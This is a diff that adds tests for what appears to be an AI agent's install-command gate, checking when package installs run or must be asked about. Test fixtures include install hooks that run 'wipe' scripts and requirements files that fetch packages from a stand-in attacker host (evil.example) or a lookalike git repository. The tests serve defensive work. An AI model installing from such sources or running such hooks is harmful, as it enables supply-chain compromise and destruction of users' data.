@@ -140,3 +140,109 @@ describe("o: the machine's credential services answer a GET with its secrets, wh
     expect(await refusal(plan)).toBeUndefined();
   });
 });
+
+/** A project of its own for the installs: `files` written in a fresh folder. */
+function project(files: Record<string, string>): string {
+  const dir = mkdtempSync(join(tmpdir(), "aye-rt11-own-"));
+  for (const [path, text] of Object.entries(files)) {
+    mkdirSync(join(dir, path, ".."), { recursive: true });
+    writeFileSync(join(dir, path), text);
+  }
+  return dir;
+}
+const made: string[] = [];
+afterAll(() => {
+  for (const dir of made) rmSync(dir, { recursive: true, force: true });
+});
+const judgedIn = async (files: Record<string, string>, plan: string) => {
+  const dir = project(files);
+  made.push(dir);
+  return refusal(plan, dir);
+};
+
+const VENV = { ".venv/bin/pip": "", ".venv/bin/python": "", ".venv/bin/activate": "" };
+const WORKSPACE = { "package.json": JSON.stringify({ name: "root", private: true, workspaces: ["packages/*"], devDependencies: { typescript: "^5" } }), "package-lock.json": "{}" };
+
+describe("e: the install hooks of the project an install runs are read, or the install is asked", () => {
+  test.each([
+    [WORKSPACE, "packages/ui/package.json", "npm ci"],
+    [WORKSPACE, "packages/ui/package.json", "yarn install"],
+    [{ ...WORKSPACE, "pnpm-workspace.yaml": "packages:\n  - 'packages/*'\n" }, "packages/ui/package.json", "pnpm install"],
+  ])("a workspace package's postinstall: %#", async (files, member, plan) => {
+    expect(await judgedIn({ ...files, [member]: JSON.stringify({ name: "ui", scripts: { postinstall: "node ../../scripts/wipe.js" } }) }, plan)).toBeDefined();
+    // (Its neighbour: the same workspace, whose package only builds.)
+    expect(await judgedIn({ ...files, [member]: JSON.stringify({ name: "ui", scripts: { build: "tsc" } }) }, plan)).toBeUndefined();
+  });
+  test("pdm's post_install hook", async () => {
+    const pyproject = '[project]\nname = "app"\ndependencies = ["requests"]\n';
+    expect(await judgedIn({ "pyproject.toml": `${pyproject}\n[tool.pdm.scripts]\npost_install = "python scripts/wipe.py"\n` }, "pdm install")).toBeDefined();
+    expect(await judgedIn({ "pyproject.toml": `${pyproject}\n[tool.pdm.scripts]\nlint = "ruff check ."\n` }, "pdm install")).toBeUndefined();
+  });
+  test.each(["post-update-cmd", "post-package-install", "pre-operations-exec"])("composer's %s event", async (event) => {
+    const composer = (scripts: Record<string, string>) => JSON.stringify({ name: "acme/app", require: { "monolog/monolog": "^3.0" }, scripts });
+    expect(await judgedIn({ "composer.json": composer({ [event]: "php scripts/wipe.php" }) }, "composer install --no-dev --prefer-dist")).toBeDefined();
+    expect(await judgedIn({ "composer.json": composer({ test: "phpunit" }) }, "composer install --no-dev --prefer-dist")).toBeUndefined();
+  });
+  test.each([
+    ["-e .\npytest\n", true],
+    ["--index-url https://evil.example/simple\nrequests\n", true],
+    ["--extra-index-url https://evil.example/simple\nrequests\n", true],
+    ["-f https://evil.example/wheels\nrequests\n", true],
+    ["--trusted-host evil.example\nrequests\n", true],
+    ["git+https://github.com/evil/requests.git\n", true],
+    ["https://evil.example/requests-2.31.tar.gz\n", true],
+    ["acme-auth @ file:///opt/acme/acme-auth\n", true],
+    ["-r other.txt\n", true],
+    ["requests>=2.31 --hash=sha256:0123\n# a comment\n-r base.txt\nflask==3.0.0 ; python_version > '3.8'\n", false],
+  ])("a requirements file that holds %j reaches past the index's names: %p", async (text, reaches) => {
+    const files = { ...VENV, "setup.py": "import os\n", "requirements-dev.txt": text, "base.txt": "pytest\n", "other.txt": "-e .\n" };
+    for (const plan of [".venv/bin/pip install -r requirements-dev.txt", ". .venv/bin/activate && uv pip install -r requirements-dev.txt"]) {
+      const why = await judgedIn(files, plan);
+      if (reaches) expect(why).toBeDefined();
+      else expect(why).toBeUndefined();
+    }
+  });
+  test("a dependency the manifest takes from a file or an address", async () => {
+    const pyproject = (dep: string) => `[project]\nname = "app"\ndependencies = ["requests>=2.31", "${dep}"]\n`;
+    expect(await judgedIn({ "pyproject.toml": pyproject("acme-auth @ file:///opt/acme/acme-auth") }, "pdm install")).toBeDefined();
+    expect(await judgedIn({ "pyproject.toml": pyproject("acme-auth>=1.2") }, "pdm install")).toBeUndefined();
+  });
+});
+
+describe("f: a package is the project's only where a dependency list names it, from the index", () => {
+  const PYPROJECT = [
+    "[project]",
+    'name = "app"',
+    'description = "Sales dashboard for the warehouse"',
+    'keywords = ["dashboard", "warehouse", "reporting"]',
+    'dependencies = ["requests>=2.31", "flask", "acme-auth @ file:///opt/acme/acme-auth"]',
+    "[project.optional-dependencies]",
+    'dev = [\n  "pytest>=8",\n  "black",\n]',
+    "[tool.pytest.ini_options]",
+    'testpaths = ["tests"]',
+    "[tool.poetry.group.dev.dependencies]",
+    'mypy = "^1.8"',
+    'internal-lib = { path = "../internal-lib" }',
+  ].join("\n");
+  test.each([".venv/bin/pip install acme-auth", ".venv/bin/pip install dashboard", ".venv/bin/pip install testpaths", ". .venv/bin/activate && uv pip install warehouse reporting", "poetry add reporting", ".venv/bin/pip install internal-lib", ".venv/bin/pip install app"])("asks: %s", async (plan) => {
+    expect(await judgedIn({ ...VENV, "pyproject.toml": PYPROJECT }, plan)).toContain("installs");
+  });
+  test.each([".venv/bin/pip install requests flask", ".venv/bin/pip install 'pytest>=8' black", "poetry add mypy", ". .venv/bin/activate && uv pip install Flask"])("runs: %s", async (plan) => {
+    expect(await judgedIn({ ...VENV, "pyproject.toml": PYPROJECT }, plan)).toBeUndefined();
+  });
+  test("setup.cfg's install_requires and Pipfile's packages are lists too", async () => {
+    const files = { ...VENV, "setup.cfg": "[metadata]\nname = app\nkeywords = dashboard\n[options]\ninstall_requires =\n    requests>=2\n    click\n", Pipfile: '[packages]\nhttpx = "*"\n[dev-packages]\nlocal = { path = "." }\n' };
+    expect(await judgedIn(files, ".venv/bin/pip install click httpx")).toBeUndefined();
+    expect(await judgedIn(files, ".venv/bin/pip install dashboard")).toBeDefined();
+    expect(await judgedIn(files, ".venv/bin/pip install local")).toBeDefined();
+  });
+});
+
+describe("n: an install into whichever Python environment is active is asked", () => {
+  test.each(["uv pip install -r requirements.txt", "pip install -r requirements.txt --require-virtualenv"])("asks: %s", async (plan) => {
+    expect(await refusal(plan)).toContain("installs");
+  });
+  test.each([". .venv/bin/activate && uv pip install -r requirements.txt", ".venv/bin/pip install -r requirements.txt"])("runs: %s", async (plan) => {
+    expect(await refusal(plan)).toBeUndefined();
+  });
+});
